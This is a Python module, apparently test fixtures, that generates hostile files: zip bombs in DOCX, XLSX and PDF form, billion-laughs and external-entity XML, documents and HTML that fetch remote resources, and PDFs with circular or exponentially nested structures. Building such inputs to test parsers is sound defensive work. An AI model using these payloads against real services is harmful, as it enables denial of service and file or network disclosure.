"""Files made to harm whoever reads them. Small on disk, built where they are needed, each a function for one attack."""

import zlib
from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_OPEN_BODY = f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>'
_CLOSE_BODY = "</w:body></w:document>"
MEGABYTE = 1_000_000


def zipped(entries: Mapping[str, bytes | str]) -> bytes:
    """A ZIP file with these entries."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx_of(
    body: str | bytes, *, prolog: str = "", relations: str = "", others: Mapping[str, bytes | str] | None = None
) -> bytes:
    """A Word document of this body; `prolog` stands before its root, `relations` name what the body refers to."""
    inner = body.encode() if isinstance(body, str) else body
    return zipped(
        {
            "[Content_Types].xml": _types(("/word/document.xml", _WORD_TYPE)),
            "_rels/.rels": _relations(_relation("rId1", "officeDocument", "word/document.xml")),
            "word/document.xml": (prolog + _OPEN_BODY).encode() + inner + _CLOSE_BODY.encode(),
            "word/_rels/document.xml.rels": _relations(relations),
            **(others or {}),
        }
    )


def xlsx_of(rows: str, *, prolog: str = "", others: Mapping[str, bytes | str] | None = None) -> bytes:
    """A workbook of one sheet with these rows as XML; `prolog` stands before the sheet's root."""
    sheets = '<sheets><sheet name="Prices" sheetId="1" r:id="rId1"/></sheets>'
    return zipped(
        {
            "[Content_Types].xml": _types(
                ("/xl/workbook.xml", f"{_SHEET_TYPE}.sheet.main+xml"),
                ("/xl/worksheets/sheet1.xml", f"{_SHEET_TYPE}.worksheet+xml"),
            ),
            "_rels/.rels": _relations(_relation("rId1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}">{sheets}</workbook>',
            "xl/_rels/workbook.xml.rels": _relations(_relation("rId1", "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": f'{prolog}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>',
            **(others or {}),
        }
    )


def paragraph(text: str) -> str:
    """A paragraph of a Word document."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def row(*values: str, number: int = 1) -> str:
    """A row of a sheet."""
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f'<row r="{number}">{cells}</row>'


def docx_bomb(megabytes: int) -> bytes:
    """A document of white space that takes a thousandth of its unpacked size."""
    return docx_of(b" " * megabytes * MEGABYTE)


def docx_of_paragraphs(count: int) -> bytes:
    """A document of empty paragraphs: few bytes each when packed, thousands as objects."""
    return docx_of("<w:p/>" * count)


def xlsx_bomb(megabytes: int) -> bytes:
    """A workbook with as much white space between its rows."""
    return xlsx_of(" " * megabytes * MEGABYTE)


def with_members(content: bytes, count: int) -> bytes:
    """An office file with that many empty entries more."""
    file = BytesIO(content)
    with ZipFile(file, "a") as archive:
        for number in range(count):
            archive.writestr(f"word/media/{number}", b"")
    return file.getvalue()


def entities(root: str = "root", depth: int = 9) -> str:
    """A document type whose entity `&e8;` stands for 10^depth words ("a billion laughs")."""
    steps = (f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, depth))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY e0 "laugh ">{"".join(steps)}]>'


def external_entity(address: str) -> str:
    """A document type whose entity `&x;` stands for what is found at `address`."""
    return f'<?xml version="1.0"?><!DOCTYPE root [<!ENTITY x SYSTEM "{address}">]>'


def external_type(address: str) -> str:
    """A document type to be fetched from `address`."""
    return f'<?xml version="1.0"?><!DOCTYPE root SYSTEM "{address}">'


def docx_with_remote_parts(address: str) -> bytes:
    """A document that shows an image, uses a template and embeds an object, all of them kept at `address`."""
    kinds = ("image", "attachedTemplate", "oleObject", "hyperlink", "subDocument", "frame")
    relations = "".join(_relation(f"rId{n}", kind, f"{address}/{kind}", remote=True) for n, kind in enumerate(kinds, start=1))
    image = f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId1" src="{address}"/>'
    picture = f"<w:p><w:r><w:pict>{image}</w:pict></w:r></w:p>"
    return docx_of(paragraph("Remote") + picture + '<w:subDoc r:id="rId5"/>', relations=relations)


def html_with_remote_parts(address: str) -> str:
    """A page that asks for something at `address` in every way a browser knows."""
    return (
        f'<!doctype html><html><head><base href="{address}/"><link rel="stylesheet" href="{address}/a.css">'
        f'<meta http-equiv="refresh" content="0;url={address}/b"><script src="{address}/c.js"></script>'
        f'<style>@import "{address}/d.css";</style></head><body background="{address}/e.png"><p>Remote</p>'
        f'<img src="{address}/f.png" srcset="{address}/g.png 2x"><iframe src="{address}/h"></iframe>'
        f'<object data="{address}/i.svg"></object><video src="{address}/j"></video></body></html>'
    )


def svg_with(address: str) -> str:
    """A drawing whose words are what is found at `address`."""
    return external_entity(address) + f'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image href="{address}"/></svg>'


def pdf_of(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    file = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(file))
        file += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    file += b"".join(b"%010d 00000 n \n" % place for place in places)
    file += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(file)


def pdf_stream(content: bytes, entries: bytes = b"") -> bytes:
    """A packed stream."""
    packed = zlib.compress(content, 9)
    return b"<<%b/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (entries, len(packed), packed)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"


def _page(contents: int, resources: bytes = _FONT) -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R/Resources<<%b>>>>" % (contents, resources)


def pdf_with_looping_pages() -> bytes:
    """A PDF whose tree of pages leads back to its own root."""
    return pdf_of(_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>")


def pdf_with_looping_objects() -> bytes:
    """A PDF whose objects stand for each other, without an end."""
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"3 0 R", b"2 0 R")


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF with one page drawn by a stream that takes a thousandth of its unpacked size."""
    drawn = pdf_stream(b"BT /F 9 Tf (laugh) Tj ET\n" * (megabytes * MEGABYTE // 25))
    return pdf_of(_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", _page(4), drawn)


def pdf_of_pages(count: int) -> bytes:
    """A PDF of that many pages, all drawn by the same few bytes."""
    kids = b" ".join(b"%d 0 R" % number for number in range(4, count + 4))
    tree = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)
    return pdf_of(_CATALOGUE, tree, pdf_stream(b"BT /F 9 Tf 72 700 Td (One page of many) Tj ET"), *[_page(3)] * count)


def pdf_of_nested_forms(depth: int, width: int = 10) -> bytes:
    """A PDF whose page draws a form that draws `width` forms that draw as many: width^depth words."""
    header = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%b/XObject<</X %d 0 R>>>>"
    forms = [pdf_stream(b"/X Do\n" * width, header % (_FONT, number)) for number in range(6, depth + 6)]
    words = pdf_stream(b"BT /F 9 Tf (laugh) Tj ET\n", b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%b>>" % _FONT)
    page = _page(4, _FONT + b"/XObject<</X 5 0 R>>")
    return pdf_of(_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, pdf_stream(b"/X Do\n"), *forms, words)


def _types(*parts: tuple[str, str]) -> str:
    defaults = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    overrides = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in parts)
    defaults += '<Default Extension="xml" ContentType="application/xml"/>'
    return f'<Types xmlns="{PACKAGE}/content-types">{defaults}{overrides}</Types>'


def _relations(relations: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>'


def _relation(name: str, kind: str, target: str, *, remote: bool = False) -> str:
    mode = ' TargetMode="External"' if remote else ""
    return f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
